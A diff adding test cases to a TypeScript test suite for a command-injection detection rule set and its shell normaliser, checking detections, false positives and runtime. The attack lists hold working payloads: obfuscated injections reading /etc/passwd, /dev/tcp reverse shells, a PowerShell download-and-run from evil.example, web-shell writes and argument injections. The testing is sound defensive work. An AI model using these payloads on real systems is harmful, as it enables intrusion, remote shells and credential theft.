@@ -100,6 +100,83 @@ test('does not flag benign text, code spans and ordinary field values', () => {
   assert.ok(matchAll(rules, 'java --version', 'query', 2).includes('932160'));
 });
 
+test('detects substitutions glued to a word, ANSI-C quoting and variable-built commands', () => {
+  const attacks = [
+    // backtick / `$(` glued after the expected value
+    '127.0.0.1`id`', 'x`whoami`', 'a$(id)', '127.0.0.1`cat /etc/passwd`', 'host1`uname -a`', '8.8.8.8$(sleep 5)',
+    'test.com`nslookup x.oast.example`',
+    // ANSI-C quoting (hex, octal, \u, \U, inside a word, as the whole value)
+    "x;$'\\x69\\x64'", "x;$'\\151\\144'", "x;$'\\u0069d'", "x&&$'\\U00000069'd", "x|$'\\x63\\x61\\x74' /etc/passwd",
+    "x;c$'\\x61't /etc/passwd", "x;$'\\x2fbin\\x2fsh' -c id", "$'\\x69\\x64'", 'x;$"id"',
+    // variables: assignments, unset variables inside a word, slices, the shell's own name
+    'x;a=i;b=d;$a$b', 'x;a=c;b=at;$a$b /etc/passwd', "x;a='i';b=\"d\";${a}${b}", 'x;u=id;$u',
+    'x;c${u}at /etc/passwd', 'x|ca${x}t /etc/passwd', 'x;w${u}h${u}o${u}a${u}m${u}i', 'x;cat$u /etc/passwd',
+    'x;${PATH:0:1}etc${PATH:0:1}passwd', 'x;cat ${HOME:0:1}etc${HOME:0:1}passwd', 'x;${PATH%%u*}bin${PATH%%u*}id',
+    'x&%ProgramData:~0,1%%ProgramData:~9,2% /c whoami',
+    'x;$0', 'x;${!#}', 'x|$0 -c id', "x;${0} -c 'id'",
+  ];
+  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
+  assert.equal(shellNormalize("$'\\x69\\x64'"), 'id');
+  assert.equal(shellNormalize("$'\\151\\144'"), 'id');
+  assert.equal(shellNormalize('a=i;b=d;$a$b'), 'a=i;b=d;id');
+  assert.equal(shellNormalize('c${u}at'), 'cat');
+  assert.equal(shellNormalize('${PATH:0:1}etc'), '/etc');
+});
+
+test('detects here-strings, redirections and /dev/tcp reverse shells', () => {
+  const attacks = [
+    "x;bash<<<'id'", 'x;sh<<<$(echo aWQ=|base64 -d)', 'x;cat</etc/passwd', 'x;bash<<<id', "x;zsh<<<$'\\x69\\x64'",
+    'x;base64 -d<<<aWQ=|sh', 'x;sh<<EOF\\nid\\nEOF', 'x;echo pwned>/var/www/html/x.php', 'x;tee /tmp/x<<<pwn',
+    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec 5<>/dev/tcp/evil/80',
+    '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196', 'sh -i >& /dev/udp/10.0.0.1/4242 0>&1',
+    'x;cat /etc/passwd > /dev/tcp/10.0.0.1/9000', 'x;sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5',
+    `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c }}' /dev/null`,
+    // PowerShell and cmd
+    'x;iex(iwr evil.example/a.ps1)', 'x; Invoke-WebRequest -Uri http://evil/x -OutFile C:\\x.exe', 'x;$env:comspec',
+    'x|wmic process call create calc.exe', 'x;rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"',
+  ];
+  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
+});
+
+test('detects argument injection into the command an app runs', () => {
+  const attacks = [
+    '--output=/var/www/x.php', '-oProxyCommand=id', '-o ProxyCommand=id', '-oLocalCommand=id', '--upload-pack=touch /tmp/x',
+    '--receive-pack=id', '-exec id ;', '-execdir sh -c id ;', '--checkpoint-action=exec=sh x.sh',
+    '--checkpoint=1 --checkpoint-action=exec=id', '-o /tmp/x', '-O /var/www/html/shell.php', '--output-document=/var/www/s.php',
+    '-d @/etc/passwd', '--data-binary=@/etc/passwd', '-T /etc/passwd', '--post-file=/etc/passwd', '-c core.sshCommand=id',
+    '-c core.pager=id', '--use-compress-program=sh x', '--to-command=id', '--unzip-command=id', '-e sh -c id', '--rsh=id',
+    '--rsync-path=id', '-X/var/www/html/log.php', '-K /tmp/x.conf', '--open-files-in-pager=id', '--renderer-cmd-prefix=id',
+    '-fprintf /var/www/x.php %p',
+  ];
+  for (const a of attacks) assert.ok(matchAll(rules, a).includes('932220'), `missed ${a}`);
+  // paranoia 2: any option with a value; a bare flag never
+  assert.ok(matchAll(rules, '--color=auto', 'query', 2).includes('932221'));
+  assert.ok(matchAll(rules, '-v /data:/data', 'query', 2).includes('932221'));
+  assert.deepEqual(matchAll(rules, '-v /data:/data'), []);
+  assert.deepEqual(matchAll(rules, '--verbose', 'query', 2), []);
+});
+
+test('does not flag Markdown code spans, prices, templates, flags and shell-looking prose', () => {
+  const benign = [
+    'use `npm install`',
+    'Run `cat file.txt` then `ls -la` in the repo',
+    'The `id`s and `type`s are listed; see `GET`/`id`',
+    '`foo`bar`baz`', 'I love `c`++ and `x`y',
+    'email subject: Re: [ticket-123] `build` failed; see log',
+    "Costs $5; tax $'s not included", "the company$'s policy", 'Sales of $5M | $10M & more',
+    'Shipping; $0', 'Shipping fee: $0 | Tax: $0', 'Total: $0.00; discount $0', '|Item|Price|\n|Free|$0|', 'Price: US$100; EUR 90',
+    'Dear ${firstName}; your order ${orderId} | ${status}', 'Hello ${name}!', '${greeting}, ${user.name}',
+    'server.port=${PORT:8080}', 'image: ${REGISTRY:-docker.io}/app:${TAG}', 'name=John; age=30; $name is here',
+    "It's $HOME sweet $HOME", 'pa$$word', 'a=1&b=2&c=$a',
+    '--verbose', '--help', '-v', '-1.5', '- item one', '-- John', '-my-file-2024.pdf', '--no-pager', '-webkit-transition',
+    '-5 degrees', '-Infinity', '--color=auto', '-n 5', '-v /data:/data', '-fiSiol\u00f3gicamente',
+    '{"a": "x <<< y", "b": "<<<EOF"}', 'x <<< y', 'a << b >> c', 'see /dev/tcp in the bash manual',
+    'bash can open /dev/tcp/host/port for you', 'echo chamber; cat videos & more', 'Use ; to separate | and & to join',
+    'Tom & Jerry > /r/cartoons',
+  ];
+  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
+});
+
 test('shellNormalize removes quote, backslash and IFS evasions', () => {
   assert.equal(shellNormalize("c''at"), 'cat');
   assert.equal(shellNormalize('c\\at'), 'cat');
@@ -114,6 +191,14 @@ test('shellNormalize removes quote, backslash and IFS evasions', () => {
 
 test('linear time on 64 KiB pathological input', () => {
   const inputs = [';'.repeat(65536), '; id'.repeat(16384).slice(0, 65536), '`'.repeat(65536), '$('.repeat(32768), "c''".repeat(21845), '{cat,'.repeat(13107), '/?'.repeat(32768), 'system('.repeat(9362), '()'.repeat(32768), 'a'.repeat(65536)];
+  // the scans added for ANSI-C quoting, variables, slices, /dev/tcp, `$0`, redirections and options
+  const k64 = (u: string) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536);
+  inputs.push(
+    k64("$'"), k64("$'\\'"), k64("$'\\x69"), k64("x;$'\\151\\144'"), k64('a=b;'), 'a=' + 'x'.repeat(64) + ';' + k64('$a'),
+    k64('a$u'), k64('a${u}'), k64('${a:0:1}'), k64('${a%%'), k64('%a:~0,1%'), k64(':~'), k64('>& /dev/tcp/'),
+    '>/dev/tcp/' + 'a'.repeat(65526), k64('"/inet/tcp/1/'), k64(';$0'), k64(';${!#}'), k64(';cat >'), k64('x`'), k64('a`id`'),
+    '-' + k64(' -o'), '-' + k64(' -'), k64('-o /'), k64(';iex('),
+  );
   for (const s of inputs) {
     const ms = timeAll(rules, s);
     assert.ok(ms < 2000, `took ${ms} ms`);
